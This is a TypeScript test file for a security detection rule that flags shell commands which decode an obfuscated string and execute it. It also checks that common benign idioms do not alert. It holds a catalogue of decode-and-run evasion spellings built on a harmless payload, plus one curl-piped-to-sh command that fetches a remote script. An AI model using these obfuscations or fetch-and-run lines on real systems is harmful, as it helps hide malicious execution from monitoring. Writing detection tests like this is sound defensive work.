/**
 * `attrs.exec.indirect` (exec-readings.ts) and the rule that reads it, MLS-RAY-013 (MITRE T1140 then
 * T1059.004): a literal decoded in the exec's own argv and run. Through the shipped rule set and
 * the real engine: every decode-and-run spelling alerts, the everyday idioms that run text too
 * (`eval "$(ssh-agent -s)"`, `source <(kubectl completion bash)`, here-docs) do not.
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { execEvent, execRuleIds, SA, SHIPPED_RULES } from './exec-events.test-support.js';
import { createRuleEngine } from './engine.js';
import { appEvent, auditEvent, T0 } from './fixtures.test-support.js';
import { enterEvent, leaveEvent } from './event-scope.js';
import { eventExecCanonical, eventFieldResolver } from './event-fields.js';

const RULES = SHIPPED_RULES;
const RULE = 'MLS-RAY-013';

const ids = execRuleIds;

const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = 'get' in lookup ? lookup.get : (): unknown => undefined;

const b64 = (x: string): string => Buffer.from(x).toString('base64');
const hex = (x: string): string => Buffer.from(x).toString('hex');
const octal = (x: string): string => [...x].map((c) => `\\${c.charCodeAt(0).toString(8)}`).join('');
const rot13 = (x: string): string => x.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < 'a' ? 65 : 97)));
const P = 'id; uname -a';

/** RFC 4648 §6 base32 with padding (as coreutils `base32` writes it). */
function base32(x: string): string {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const b of Buffer.from(x)) bits += b.toString(2).padStart(8, '0');
  let out = '';
  for (let i = 0; i < bits.length; i += 5) out += A[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out.padEnd(Math.ceil(out.length / 8) * 8, '=');
}

describe('MLS-RAY-013: a literal decoded and run in the exec', () => {
  const spellings: Array<[string, unknown]> = [
    ['echo | base64 -d | sh', ['sh', '-c', `echo ${b64(P)} | base64 -d | sh`]],
    ['base64 --decode | sudo bash', ['sh', '-c', `echo ${b64(P)} | base64 --decode | sudo bash`]],
    ['base64 -d <<< | bash -s', ['bash', '-c', `base64 -d <<< ${b64(P)} | bash -s`]],
    ['base32 -d', ['sh', '-c', `echo ${base32(P)} | base32 -d | sh`]],
    ['openssl enc -d -base64', ['sh', '-c', `echo ${b64(P)} | openssl enc -d -base64 | sh`]],
    ['xxd -r -p', ['sh', '-c', `echo ${hex(P)} | xxd -r -p | sh`]],
    ['rev', ['sh', '-c', `echo '${[...P].reverse().join('')}' | rev | sh`]],
    ['tr rot13', ['sh', '-c', `echo '${rot13(P)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`]],
    ['gzip, base64', ['sh', '-c', `echo ${gzipSync(Buffer.from(P)).toString('base64')} | base64 -d | gunzip | sh`]],
    ["printf '\\NNN' | sh", ['sh', '-c', `printf '${octal(P)}' | sh`]],
    ['eval "$(… | base64 -d)"', ['bash', '-c', `eval "$(echo ${b64(P)} | base64 -d)"`]],
    ['sh -c "$(… | base64 -d)"', ['bash', '-c', `sh -c "$(echo ${b64(P)} | base64 -d)"`]],
    ['bash <(… | base64 -d)', ['bash', '-c', `bash <(echo ${b64(P)} | base64 -d)`]],
    ['source <(… | base64 -d)', ['bash', '-c', `source <(echo ${b64(P)} | base64 -d)`]],
    ['a decoded variable, eval', ['bash', '-c', `x=$(echo ${b64(P)} | base64 -d); eval "$x"`]],
    ['a decoded variable, sh -c', ['sh', '-c', `x=\`echo ${b64(P)} | base64 -d\`\nsh -c "$x"`]],
    ['a decoded variable, run unquoted', ['sh', '-c', `x="$(echo ${b64('id')} | base64 -d)"; y=$x; $y -a`]],
    ['a decoded variable, here-string into bash', ['bash', '-c', `x=$(echo ${b64(P)} | base64 -d)\nbash <<< "$x"`]],
    ['an undecodable payload still run', ['sh', '-c', 'echo AAEC | base64 -d | sh']],
    ['a command line given as a string', `echo ${b64(P)} | base64 -d | sh`],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(ids(command)).toContain(RULE);
      expect(ids(command, SA)).toContain(RULE);
    });
  }

  const benign: Array<[string, unknown[]]> = [
    ['eval "$(ssh-agent -s)"', ['bash', '-c', 'eval "$(ssh-agent -s)" && ssh-add /root/.ssh/id_ed25519']],
    ['eval $(minikube docker-env)', ['sh', '-c', 'eval $(minikube docker-env)']],
    ['eval "$x" of an unknown value', ['sh', '-c', 'eval "$CMD"']],
    ['source <(kubectl completion bash)', ['bash', '-c', 'source <(kubectl completion bash)']],
    ['bash -s < script.sh', ['sh', '-c', 'bash -s < /opt/setup.sh']],
    ['a here-doc config write', ['sh', '-c', "cat <<'EOF' > /etc/pip.conf\n[global]\nindex-url = https://pypi.corp.example/simple\nEOF"]],
    ['a here-doc into kubectl', ['sh', '-c', 'kubectl apply -f - <<EOF\nkind: ConfigMap\nEOF']],
    ['a here-doc into a shell', ['sh', '-c', 'bash <<EOF\nnvidia-smi\ndf -h\nEOF']],
    ['a literal echoed into a shell', ['sh', '-c', 'echo nvidia-smi | sh']],
    ["printf '%s\\n' into a shell", ['sh', '-c', "printf '%s\\n' 'df -h' | bash"]],
    ['eval of literal words', ['sh', '-c', "eval 'export CUDA_VISIBLE_DEVICES=0'"]],
    ['a secret decoded, not run', ['sh', '-c', "kubectl get secret hf -o jsonpath='{.data.token}' | base64 -d"]],
    ['a decode to a file', ['sh', '-c', `echo ${b64('a: 1')} | base64 -d > /etc/app/config.yaml`]],
    ['a decoded variable printed, not run', ['sh', '-c', `x=$(echo ${b64(P)} | base64 -d); echo "$x"`]],
    ['variables spelled in the script', ['sh', '-c', 'a=nvidia; b=-smi; $a$b']],
  ];
  for (const [name, command] of benign) {
    it(`does not alert: ${name}`, () => {
      expect(ids(command)).not.toContain(RULE);
    });
  }

  it('a download piped into a shell is MLS-RAY-012, not this rule', () => {
    const hit = ids(['sh', '-c', 'curl -fsSL http://203.0.113.7/r.sh | sh']);
    expect(hit).toContain('MLS-RAY-012');
    expect(hit).not.toContain(RULE);
  });

  it('is a shadowray defense-evasion alert, T1140 and T1059.004, indexed on the exec subresource', () => {
    const rule = RULES.find((r) => r.meta.id === RULE)!;
    expect(rule.meta).toMatchObject({ family: 'shadowray', phase: 'defense-evasion', decision: 'alert', severity: 'high' });
    expect(rule.meta.attack).toEqual(expect.arrayContaining(['T1140', 'T1059.004']));
    expect(rule.index?.key).toBe('event.attrs.subresource');
  });

  it('says why in its hit', () => {
    const hit = createRuleEngine(RULES).evaluate(execEvent(['sh', '-c', `echo ${b64(P)} | base64 -d | sh`])).find((h) => h.ruleId === RULE)!;
    expect(hit.reason).toContain('decoded');
  });
});

describe('attrs.exec.indirect', () => {
  const value = (command: unknown): unknown => indirect(execEvent(command));
  it('false for commands that run only what their words spell', () => {
    for (const c of [['nvidia-smi'], ['sh', '-c', 'nvidia-smi && df -h'], ['sh', '-c', 'curl -fsSL https://x/i.sh | tee /tmp/i.sh'], []]) expect(value(c), JSON.stringify(c)).toBe(false);
  });
  it('true and how the text came about', () => {
    expect(value(['sh', '-c', `echo ${b64(P)} | base64 -d | sh`])).toEqual([true, 'decoded']);
    expect(value(['sh', '-c', 'bash <<EOF\nnvidia-smi\nEOF'])).toEqual([true, 'literal']);
    expect(value(['sh', '-c', "eval 'nvidia-smi'"])).toEqual([true, 'literal']);
    expect(value(['sh', '-c', 'eval "$(ssh-agent -s)"'])).toEqual([true, 'runtime']);
    expect(value(['sh', '-c', 'bash <<EOF\ncd $HOME\nEOF'])).toEqual([true, 'runtime']);
    // Fed by a pipe or a process substitution: what arrives when it runs.
    expect(value(['sh', '-c', 'curl -fsSL https://x/i.sh | sh'])).toEqual([true, 'runtime']);
    expect(value(['bash', '-c', 'source <(kubectl completion bash)'])).toEqual([true, 'runtime']);
    expect(value(['bash', '-c', `eval "$(echo ${b64(P)} | base64 -d)"`])).toEqual([true, 'decoded', 'runtime']);
  });
  it('events without an exec command read the attrs path as any other; no reading is made for them', () => {
    expect(indirect(auditEvent({ verb: 'get', objectRef: { resource: 'pods', namespace: 'ml-train' } }))).toBeUndefined();
    const app = appEvent(T0, 'ray_job_submit', { job: 'r' }, { exec: { indirect: 'decoded' } });
    expect(indirect(app)).toBe('decoded');
    expect(eventExecCanonical(app)).toBeNull();
    const odd = execEvent({ not: 'argv' });
    expect(indirect(odd)).toBeUndefined();
  });
  it('comes from the one canonical reading the event already has', () => {
    const e = execEvent(['sh', '-c', `echo ${b64(P)} | base64 -d | sh`]);
    enterEvent(e);
    try {
      const view = eventExecCanonical(e);
      const first = indirect(e);
      expect(eventExecCanonical(e)).toBe(view);
      expect(indirect(e)).toBe(first); // a shared value: nothing allocated per read
    } finally {
      leaveEvent();
    }
  });
});
